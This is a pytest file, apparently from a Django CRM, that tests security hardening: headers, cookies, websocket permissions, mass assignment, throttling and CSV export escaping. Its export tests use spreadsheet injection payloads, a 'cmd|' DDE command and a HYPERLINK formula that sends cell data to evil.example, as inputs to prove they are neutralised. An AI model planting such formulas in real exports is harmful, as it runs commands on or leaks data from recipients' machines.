"""4-reliability §4 B: headers, GETs, sockets, mass assignment, exports. What people write is in test_b_hostile_content.py."""

import csv
import io
import json
import os
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.db import connection
from django.http import HttpRequest
from django.test import Client
from django.urls import reverse

from contacts import exporting
from contacts.finding import Filters
from contacts.models import Contact
from contacts.spreadsheets import TRIGGERS, lines, plain, safe
from omnify.commands.management.commands.verify import PRODUCTION
from omnify.lib import live
from omnify.simulator import pages
from omnify.tenants.accounts import AccountAdapter, own_address
from omnify.tenants.actions import create_api_key
from omnify.tenants.api import TenantThrottle
from omnify.tenants.consumers import NOT_WELCOME, LiveConsumer
from omnify.tenants.context import tenant_context
from omnify.tenants.members import change_role, remove_member
from sequences.models import Enrollment, Sequence
from tests.everything import Rows, fingerprint, make_everything
from tests.making import People, make_contact
from tests.tenants.test_live import hint_to, run, session_of, socket
from tests.test_urls_matrix import ROUTES, Simulator, ask, body_of

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]


# --- B1, B2 ------------------------------------------------------------------------------------------------------


def in_production(*command: str) -> subprocess.CompletedProcess[str]:
    # What a browser test of the same process asks for is no setting of a deployment.
    environ = {name: value for name, value in os.environ.items() if name != "DJANGO_ALLOW_ASYNC_UNSAFE"} | PRODUCTION
    return subprocess.run(
        [sys.executable, *command], cwd=ROOT, env=environ, capture_output=True, text=True, timeout=120
    )


def test_b1_production_s_own_settings_pass_django_s_deployment_check_without_a_warning() -> None:
    done = in_production("manage.py", "check", "--deploy", "--fail-level", "WARNING")
    assert (done.returncode, "no issues" in done.stdout) == (0, True), done.stdout + done.stderr


ASKED = (
    "SECURE_HSTS_SECONDS", "SECURE_SSL_REDIRECT", "SESSION_COOKIE_NAME", "CSRF_COOKIE_NAME", "SESSION_COOKIE_SECURE",
    "CSRF_COOKIE_SECURE", "SESSION_COOKIE_HTTPONLY", "CSRF_COOKIE_HTTPONLY", "SESSION_COOKIE_SAMESITE", "SESSION_COOKIE_DOMAIN",
    "SESSION_COOKIE_PATH", "REQUIRE_MFA", "DEBUG", "SIMULATOR_URL", "ENVIRONMENT",
)  # fmt: skip


def test_b2_production_sets_cookies_that_only_this_host_can_have_set() -> None:
    code = f"import json; from django.conf import settings; print(json.dumps({{n: getattr(settings, n) for n in {ASKED}}}))"
    done = in_production("-c", f"import os; os.environ['DJANGO_SETTINGS_MODULE'] = 'omnify.settings'; {code}")
    found = json.loads(done.stdout)
    assert found["SECURE_HSTS_SECONDS"] >= 31_536_000
    assert found["SESSION_COOKIE_NAME"] == "__Host-sessionid"
    assert found["CSRF_COOKIE_NAME"] == "__Host-csrftoken"
    # Without these a browser refuses a cookie of that name.
    assert (found["SESSION_COOKIE_SECURE"], found["CSRF_COOKIE_SECURE"]) == (True, True)
    assert (found["SESSION_COOKIE_DOMAIN"], found["SESSION_COOKIE_PATH"]) == (None, "/")
    assert (found["SESSION_COOKIE_HTTPONLY"], found["CSRF_COOKIE_HTTPONLY"]) == (True, True)
    assert found["SESSION_COOKIE_SAMESITE"] == "Lax"
    assert (found["SECURE_SSL_REDIRECT"], found["REQUIRE_MFA"], found["DEBUG"]) == (True, True, False)
    assert (found["SIMULATOR_URL"], found["ENVIRONMENT"]) == ("", "production")


@pytest.fixture
def world(people: People, now: datetime, monkeypatch: pytest.MonkeyPatch) -> Rows:
    monkeypatch.setattr(pages, "SimulatorClient", Simulator)
    return make_everything(people.alice, now, "Oursword")


@pytest.mark.as_web
def test_b2_every_answer_of_every_address_carries_the_safeguards(people: People, world: Rows, settings: Any) -> None:
    settings.SECURE_HSTS_SECONDS, settings.SESSION_COOKIE_SECURE, settings.CSRF_COOKIE_SECURE = 31_536_000, True, True
    wrong, seen = [], set()
    for member in (people.alice, None):
        client = Client(raise_request_exception=False)
        if member is not None:
            client.force_login(member.user)
        for route in [*ROUTES, None]:
            path = "/no/such/page/" if route is None else route.path(world)
            answer = client.get(path, secure=True)
            body_of(answer)
            policy = answer.get("Content-Security-Policy", "")
            rules = dict(rule.strip().partition(" ")[::2] for rule in policy.split(";"))
            framed = "sandbox" in rules  # the preview of a mail, in a frame of our own
            good = (
                rules.get("default-src") == "'none'"
                and "unsafe" not in rules.get("script-src", "")
                and (framed or "unsafe" not in policy)
                and (rules.get("frame-ancestors") == ("'self'" if framed else "'none'"))
                and answer.get("X-Content-Type-Options") == "nosniff"
                and answer.get("Strict-Transport-Security", "").startswith("max-age=31536000")
                and answer.get("Referrer-Policy") == "same-origin"
                and answer.get("Cross-Origin-Opener-Policy") == "same-origin"
                and answer.get("X-Frame-Options") in ("DENY", "SAMEORIGIN" if framed else "DENY")
            )
            for name, cookie in answer.cookies.items():
                flags = (bool(cookie["secure"]), bool(cookie["httponly"]), cookie["samesite"], cookie["domain"])
                good = good and (not cookie.value or flags == (True, True, "Lax", ""))
                seen.add(name)
            if not good:
                wrong.append(f"{path}: {dict(answer.headers)}")
    assert {"csrftoken"} <= seen
    assert not wrong, "\n".join(wrong)


# --- B5 ----------------------------------------------------------------------------------------------------------

# Kept by the framework: a session is stamped when it is read late in its life.
MAY_CHANGE = {"django_session"}


def whole_database() -> dict[str, str]:
    """A checksum of every table, the tenants' own and the others."""
    with connection.cursor() as cursor:
        tables = [name for name in connection.introspection.table_names(cursor) if name not in MAY_CHANGE]
        cursor.execute(
            " UNION ALL ".join(
                f"SELECT '{name}', count(*) || ':' || coalesce(md5(string_agg(md5(t::text), '' ORDER BY md5(t::text))), '')"
                f' FROM "{name}" AS t'
                for name in tables
            )
        )
        return dict(cursor.fetchall())


def test_b5_looking_at_everything_changes_no_row_of_any_table(people: People, world: Rows) -> None:
    client = Client(raise_request_exception=False)
    client.force_login(people.alice.user)
    own_address(people.alice.user)  # as logging in by hand does
    client.get(reverse("home"))
    before, asked = whole_database(), 0
    for route in ROUTES:
        for method in ("get", "head"):
            answer = ask(client, method, route, route.path(world), {})
            body_of(answer)
            assert answer.status_code < 500, route
            asked += 1
    after = whole_database()
    assert asked > 120
    assert {name for name in before if before[name] != after[name]} == set()


# --- B6 ----------------------------------------------------------------------------------------------------------


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("ending", ["log-out", "password", "role", "removed"])
def test_b6_a_socket_ends_within_five_seconds_when_rights_change(people: People, now: datetime, ending: str) -> None:
    """Without waiting for its own look every 30 s: whatever ends a right says so."""
    assert LiveConsumer.recheck_seconds == 30
    session = session_of(people.bob)

    def end() -> None:
        request = HttpRequest()
        request.session, request.user = session, people.bob.user  # type: ignore[assignment]
        with tenant_context(people.acme.pk):
            if ending == "log-out":
                AccountAdapter().logout(request)
            elif ending == "password":
                AccountAdapter().set_password(people.bob.user, "something else entirely")
            elif ending == "role":
                change_role(people.bob, role="viewer", by=people.alice, now=now)
            else:
                remove_member(people.bob, by=people.alice, now=now)

    async def story() -> None:
        browser = socket(session)
        assert await browser.connect()
        # The listener may still be connecting: only a socket that hears can be told.
        for attempt in range(50):
            await sync_to_async(hint_to)(people.acme.pk, str(attempt))
            if not await browser.receive_nothing(0.1, 0.01):
                break
        while not await browser.receive_nothing(0.2):
            await browser.hear()
        await sync_to_async(end)()
        closed = await browser.receive_output(5)
        # A changed role opens again at once, with what it may now see; the others stay out.
        assert closed["type"] == "websocket.close"
        assert (closed.get("code") == NOT_WELCOME) == (ending != "role")
        await browser.leave()

    run(story)


@pytest.mark.django_db(transaction=True)
def test_a7_a_thousand_hostile_frames_bring_nothing_foreign_and_little_work(
    people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    looks = []
    honest = LiveConsumer.standing

    async def counted(self: LiveConsumer) -> Any:
        looks.append(1)
        return await honest(self)

    monkeypatch.setattr(LiveConsumer, "standing", counted)
    session = session_of(people.charlie)
    acme = people.acme.pk
    frames = [
        json.dumps({"group": live.group_name(acme), "type": "subscribe"}),
        json.dumps({"type": "live.hint", "topic": "x", "key": "y", "tenant": acme}),
        json.dumps({"type": "group_add", "args": [live.group_name(acme), "specific.x"]}),
        json.dumps({"topic": f"tenant.{acme}", "key": "*"}),
        json.dumps([acme] * 50), "{not json", "", "\x00", "tenant.*", "👾" * 2000, '{"a":' * 400, "null", "-1e400",
    ]  # fmt: skip

    async def story() -> None:
        browser = socket(session)
        assert await browser.connect()
        for n in range(1001):
            await browser.say(frames[n % len(frames)] + (" " * (n % 7)))
            if n % 100 == 0:
                await sync_to_async(hint_to)(acme, "secret")
        heard = []
        while not await browser.receive_nothing(0.4):
            heard.append(await browser.receive_output(5))
        assert heard == []
        await browser.leave()

    run(story)
    assert len(looks) < 60


# --- B7 ----------------------------------------------------------------------------------------------------------


@pytest.fixture
def api(people: People, now: datetime) -> Any:
    with tenant_context(people.acme.pk):
        _, key = create_api_key(name="k", role="owner", by=people.alice, now=now)

    def call(method: str, path: str, data: Any) -> Any:
        headers = {"authorization": f"Bearer {key}"}
        return getattr(Client(), method)(
            path, json.dumps(data, default=str), content_type="application/json", headers=headers
        )

    return call


def columns_of(model: Any) -> dict[str, Any]:
    """A hostile value for every column of a model, and for the columns of the tenancy by any name."""
    given: dict[str, Any] = {}
    for field in model._meta.local_fields:
        hostile = (
            1
            if field.get_internal_type().endswith(("Field", "Key")) and "Char" not in field.get_internal_type()
            else "x"
        )
        given[field.name] = given[field.attname] = hostile
    return given | {"tenant": 1, "tenant_id": 1, "id": 1, "pk": 1, "public_id": "x", "role": "owner", "is_staff": True}


# What the API lets one write, by endpoint. Everything else in a model must be refused by name.
WRITABLE = {
    "contacts": {
        "first_name", "last_name", "title", "company", "email", "phone", "alternative_email", "alternative_phone", "address_line",
        "city", "state", "postal_code", "country", "timezone", "language", "source", "lead_score", "tags", "custom_fields",
    },
    "enrolments": {"sequence", "contact", "contacts"},
}  # fmt: skip


@pytest.mark.as_web
def test_b7_no_endpoint_takes_a_column_that_it_does_not_name(people: People, world: Rows, api: Any) -> None:
    contact, enrolment = world[Contact], world[Enrollment]
    sequence = world[Sequence]
    other = f"/api/v1/enrolments/{sequence.public_id}/{contact.public_id}/"
    before = fingerprint([people.acme.pk])
    refused = 0
    enrolling = {"sequence": sequence.public_id, "contacts": [contact.public_id]}
    for method, path, model, kind in (
        ("post", "/api/v1/contacts/", Contact, "contacts"),
        ("patch", f"/api/v1/contacts/{contact.public_id}/", Contact, "contacts"),
        ("post", "/api/v1/enrolments/", Enrollment, "enrolments"),
    ):
        needed = enrolling if kind == "enrolments" else {}
        for name, value in columns_of(model).items():
            if name in WRITABLE[kind]:
                continue
            answer = api(method, path, {**needed, name: value})
            assert answer.status_code == 400, (method, path, name)
            assert name in answer.json()["errors"], (name, answer.json())
            refused += 1
    for verb in ("pause", "resume", "cancel"):
        for name in ("status", "tenant_id", "step", "turn"):
            assert api("patch", f"{other}{verb}/", {name: 1}).status_code == 405
    for path in ("/api/v1/sequences/", f"/api/v1/sequences/{sequence.public_id}/", other):
        for method in ("post", "patch", "put"):
            assert api(method, path, columns_of(Sequence)).status_code == 405
    after = fingerprint([people.acme.pk])
    changed = {name for name in before if before[name] != after[name]}
    assert changed <= {f"tenants_apikey:{people.acme.pk}"}  # when the key was last used
    assert refused > 80
    assert enrolment.status == "active"


@pytest.mark.as_web
def test_b7_a_throttle_is_the_keys_own_and_no_header_changes_it(
    people: People, api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(TenantThrottle, "get_rate", lambda self: "5/min")
    with tenant_context(people.acme.pk):
        _, key = create_api_key(name="t", role="viewer", by=people.alice, now=people.alice.created_at)
    names = ("x-forwarded-for", "x-real-ip", "forwarded", "x-client-ip", "cf-connecting-ip", "true-client-ip", "host")
    codes = []
    for n in range(40):
        spoofed = {name: f"10.{n}.1.1" for name in names if name != "host"}
        codes.append(
            Client(REMOTE_ADDR=f"10.0.0.{n}")
            .get("/api/v1/contacts/", headers={"authorization": f"Bearer {key}", **spoofed})
            .status_code
        )
    assert codes == [200] * 5 + [429] * 35


# --- B8 ----------------------------------------------------------------------------------------------------------

FORMULAS = ("cmd|' /C calc'!A0", "1+1", 'HYPERLINK("https://evil.example?"&A1)', "SUM(A1:A9)")


def test_b8_there_are_twelve_triggers() -> None:
    assert len(TRIGGERS) == 12


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
def test_b8_no_exported_field_of_a_contact_begins_with_a_formula(people: People, now: datetime, trigger: str) -> None:
    columns = [
        name for name in exporting.COLUMNS if name not in ("lead_score", "country", "phone", "alternative_phone")
    ]
    value = (trigger + FORMULAS[0])[:10].replace("\x00", "")
    contact = make_contact(
        people.acme, now, **{name: value for name in columns if name not in ("email", "language")},
        email=f"{trigger}x@people.example".replace("\x00", ""), language=value[:10], tags=[value], phone="+12125550123",
    )  # fmt: skip
    assert contact.phone.startswith("+")
    text = "".join(exporting.contact_lines(people.acme.pk, Filters.read({}), now=now)).removeprefix(exporting.MARK)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 2
    assert len(rows[0]) == len(rows[1])
    for cell in rows[1]:
        assert not cell.startswith(TRIGGERS), cell
        assert "\x00" not in cell
    # Our own import takes the apostrophe off again: nothing is lost.
    assert plain(rows[1][rows[0].index("Phone")]) == "+12125550123"


@pytest.mark.parametrize("trigger", TRIGGERS, ids=repr)
@pytest.mark.parametrize("formula", FORMULAS)
def test_b8_a_hostile_cell_is_text_and_stays_one_cell(trigger: str, formula: str) -> None:
    cell = trigger + formula
    (row,) = csv.reader(io.StringIO(lines([["a", cell, "b"]]), newline=""))
    assert row == ["a", safe(cell), "b"]
    assert not row[1].startswith(TRIGGERS)


def test_b8_every_csv_that_leaves_goes_through_that_door() -> None:
    users = {
        str(path.relative_to(ROOT))
        for package in ("omnify", "contacts", "sequences")
        for path in (ROOT / package).rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    }
    assert users <= {"contacts/spreadsheets.py", "omnify/bench/import.py", "omnify/bench/importing.py"}
